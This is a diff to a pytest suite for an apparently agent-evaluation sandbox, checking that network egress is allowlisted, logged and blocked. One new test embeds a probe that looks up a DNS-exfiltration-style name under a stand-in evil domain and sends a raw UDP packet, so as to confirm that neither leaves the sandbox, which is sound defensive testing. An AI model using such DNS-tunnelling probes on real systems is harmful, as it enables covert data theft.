@@ -59,7 +59,10 @@ def test_agent_reaches_only_its_allowlist_and_the_record_says_so(cohort: Cohort,
         assert seen.count(EGRESS_TOKEN) == 1 and seen.count(" 403") == 2, seen
         lines = [json.loads(x) for x in (cohort.out / record["artifacts"]["egress_log"]).read_text().splitlines()]
         assert [(x["phase"], x["allowed"]) for x in lines] == [("agent", True), ("agent", False), ("agent", False)]
-        assert set(lines[0]) == {"time", "phase", "method", "destination", "allowed", "bytes", "reason"}
+        assert set(lines[0]) == {
+            "time", "phase", "method", "destination", "allowed", "bytes", "bytes_out", "bytes_in", "sni", "reason"
+        }  # fmt: skip
+        assert all(x["bytes"] == x["bytes_out"] + x["bytes_in"] and x["bytes_in"] > 0 for x in lines), lines
     summary = (cohort.out / "summary.md").read_text()
     for name in ("a", "b"):
         assert f"| {name} | agent | telemetry.test:{server.port} | 1 | 1 |" in summary, summary
@@ -178,7 +181,8 @@ def test_no_proxy_outlives_its_harness(cohort: Cohort, server: HttpServer, sig: 
         assert server.paths == ["/started"], "the subject never reached the proxy"
         running = _processes_mentioning(marker)
         assert any("tinyproxy -d" in p for p in running), running
-        assert any(p.split(" ", 2)[1] == "socat" for p in running), running
+        sockets = list(Path("/tmp").glob(f"maka-egress-*{marker}*/{host.SOCKET_NAME}"))
+        assert sockets and sockets[0].is_socket(), "the relay listens on the proxy's socket"
         proc.send_signal(sig)
         proc.wait(60)
     finally:
@@ -189,3 +193,57 @@ def test_no_proxy_outlives_its_harness(cohort: Cohort, server: HttpServer, sig: 
     while _processes_mentioning(marker) and time.monotonic() < deadline:
         time.sleep(0.05)
     assert _processes_mentioning(marker) == []
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="the sandbox's DNS reaches the relay only when bwrap runs as root")
+def test_dns_questions_are_logged_and_udp_goes_nowhere(cohort: Cohort, server: HttpServer) -> None:
+    """A subject that resolves names itself, or sends a raw UDP packet, gets nothing; its questions are logged."""
+    cohort.task("t")
+    probe = (
+        "import socket\n"
+        "for name in ('exfil-c2VjcmV0.evil.test', 'allowed.test'):\n"
+        "    try: print(name, socket.getaddrinfo(name, 80))\n"
+        "    except OSError as e: print(name, 'FAILED', e)\n"
+        "try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('198.51.100.7', 9)); print('udp sent')\n"
+        "except OSError as e: print('udp FAILED', e)\n"
+    )
+    cmd = 'python3 -c "$P" > $MAKA_LOGS_DIR/dns.txt 2>&1; ' + fetch(
+        f"http://allowed.test:{server.port}/agent", "$MAKA_LOGS_DIR/net.txt"
+    )
+    cohort.write(
+        subjects=[{"name": "a", "kind": "command", "command": cmd, "set_env": {"P": probe}}],
+        executor=LOCAL,
+        policy={"egress": [f"allowed.test:{server.port}"]},
+    )
+    cohort.run().assert_outcomes(failed=1)
+    record = cohort.results()["t[a-r0]"]
+    seen = (cohort.out / record["artifacts"]["agent_logs"] / "dns.txt").read_text()
+    assert seen.count("FAILED") == 3, seen  # neither name resolves in the sandbox, and no UDP leaves it
+    events = [json.loads(x) for x in (cohort.out / record["artifacts"]["egress_log"]).read_text().splitlines()]
+    asked = {e["destination"] for e in events if e["method"] == "DNS"}
+    assert {"exfil-c2VjcmV0.evil.test:53", "allowed.test:53"} <= asked, events
+    assert all(not e["allowed"] for e in events if e["method"] == "DNS")
+    assert [e["destination"] for e in events if e["allowed"]] == [f"allowed.test:{server.port}"]
+    refused = record["isolation"]["network"]["phases"]["agent"]["refused_destinations"]
+    assert "exfil-c2VjcmV0.evil.test:53" in refused
+
+
+def test_setup_phase_runs_under_its_own_plan(cohort: Cohort, server: HttpServer) -> None:
+    cohort.task("t")
+    cmd = fetch(f"http://allowed.test:{server.port}/agent", "$MAKA_LOGS_DIR/net.txt")
+    cohort.write(
+        subjects=[{"name": "a", "kind": "command", "command": cmd}],
+        executor=LOCAL,
+        policy={"setup_egress": [f"allowed.test:{server.port}"]},
+    )
+    cohort.run().assert_outcomes(failed=1)
+    assert server.paths == [], "the setup phase's hosts are not the agent's"
+    net = cohort.results()["t[a-r0]"]["isolation"]["network"]
+    assert net["setup"] == "allowlist" and net["agent"] == "none"
+    assert net["phases"]["setup"] == {
+        "mode": "allowlist",
+        "declared": "public",
+        "allowed": [f"allowed.test:{server.port}"],
+        "connections": {"allowed": 0, "refused": 0},
+        "refused_destinations": {},
+    }
